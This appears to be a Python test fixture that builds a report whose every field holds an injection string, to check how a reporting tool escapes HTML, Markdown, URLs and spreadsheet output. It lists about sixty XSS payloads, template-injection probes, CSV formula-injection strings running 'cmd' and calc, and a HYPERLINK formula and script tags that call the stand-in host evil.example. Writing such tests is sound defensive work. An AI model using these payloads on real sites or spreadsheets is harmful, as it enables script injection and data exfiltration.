"""A report whose every text is an attack: on HTML, on Markdown, on attributes and addresses."""

from __future__ import annotations

from compare.records import Article, Claim, Event, Figure, Group, Pair, Reason, Verdict
from compare.reporting import Report, build

# An even number: the report sets every two against each other.
STRINGS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=2>",
    "<svg/onload=window.pwned=3>",
    '"><script>window.pwned=4</script>',
    "' onmouseover='window.pwned=5' x='",
    '" onfocus="window.pwned=6" autofocus="',
    "</p></div><iframe src=javascript:parent.pwned=7></iframe>",
    "javascript:window.pwned=8",
    "[link](javascript:window.pwned=9)",
    "![image](x){onerror=window.pwned=10}",
    "<a href=javascript:window.pwned=11 data-go>click</a>",
    "<style>*{display:none}</style>",
    "</style><script>window.pwned=12</script>",
    "<!-- <b> --><b>bold</b>",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "$\\href{javascript:window.pwned=13}{x}$ $$\\text{a}$$",
    ":smile: :red[text] :material/home: **bold** `code`",
    "&lt;script&gt;window.pwned=14&lt;/script&gt;",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.pwned=15>",
    "<details open ontoggle=window.pwned=16><summary>x</summary></details>",
    "\u202e\u2066\u200f right to left \ufeff\u200b",
    "<form action=//evil.example><input name=q autofocus onfocus=window.pwned=17></form>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "half a pair \ud83d and <b>",
    "<ScRiPt >window.pwned=18</sCrIpT\t>",
    "<script src=//evil.example/x.js></script>",
    "<img/src/onerror=window.pwned=19>",
    "<img src='x' onerror='window.pwned=20'>",
    '<img src="javascript:window.pwned=21">',
    "<video><source onerror=window.pwned=22></video>",
    "<audio src=x onerror=window.pwned=23>",
    "<body onload=window.pwned=24>",
    "<marquee onstart=window.pwned=25>m</marquee>",
    "<input autofocus onfocus=window.pwned=26>",
    "<button onclick=window.pwned=27 data-judge=confirmed data-pair=x>press</button>",
    "<object data=javascript:window.pwned=28></object><embed src=//evil.example/x>",
    "<iframe srcdoc='<script>parent.pwned=29</script>'></iframe>",
    "<svg><script>window.pwned=30</script></svg>",
    "<svg><animate onbegin=window.pwned=31 attributeName=x dur=1s>",
    "<template><script>window.pwned=32</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=33>'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.pwned=34'>",
    "<a href='data:text/html,<script>window.pwned=35</script>'>data</a>",
    "<a href='vbscript:window.pwned=36'>vb</a>",
    "<a href=' &#106;avascript:window.pwned=37'>entity</a>",
    "<p style=\"background:url('javascript:window.pwned=38')\">style</p>",
    "--side:red;}</style><style>.nc{display:none",
    "x;background:url(//evil.example/pixel)",
    "<textarea></textarea><script>window.pwned=39</script>",
    "<title></title><script>window.pwned=40</script>",
    "]]><script>window.pwned=41</script><![CDATA[",
    "<?php echo 1 ?><% 1 %><!DOCTYPE html>",
    "\\u003cscript\\u003ewindow.pwned=42\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.pwned=43%3C/script%3E",
    "`${window.pwned=44}`",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "datum.constructor.constructor('window.pwned=45')()",
)

# Those that UTF-8 can carry, and so an address or a text field.
SENDABLE = tuple(text for text in STRINGS if text.encode("utf-8", "ignore").decode("utf-8") == text)


def report() -> Report:
    """Return a report in which each string is a title, text, source, side, speaker, cue, reason and quantity."""
    articles = [_article(at, text) for at, text in enumerate(STRINGS)]
    claims = [_claim(article, at) for at, article in enumerate(articles)]
    clear = Verdict(0.9, 0.05, 0.05)
    pairs = [
        Pair(a, b, 0.9, clear, clear, "number", "conflict", (Reason(b.text, a.span, b.span),))
        for a, b in zip(claims[::2], claims[1::2], strict=True)
    ]
    groups = [Group(f"g{at}", (pair.a, pair.b), 0.8) for at, pair in enumerate(pairs)]
    figures = [Figure(claim, claim.span, float(at), claim.text, unit=claim.text) for at, claim in enumerate(claims)]
    event = Event("hostile", tuple(articles), STRINGS[0], {STRINGS[1]: STRINGS[2]}, notices=STRINGS)
    return build(event, claims, groups, pairs, figures, {"threshold": 0.5})


def _article(at: int, text: str) -> Article:
    """An article of one string; every second one holds it in its address too."""
    url = f"https://example.org/{text}" if at % 2 else text
    return Article(f"a{at}{text}", text, f"{text}\n\n{text}", title=text, side=text, url=url, published=text)


def _claim(article: Article, at: int) -> Claim:
    half = article.source
    return Claim(f"c{at}", article, "text", (0, len(half)), half, half, half, half, sentence=(0, len(half)))
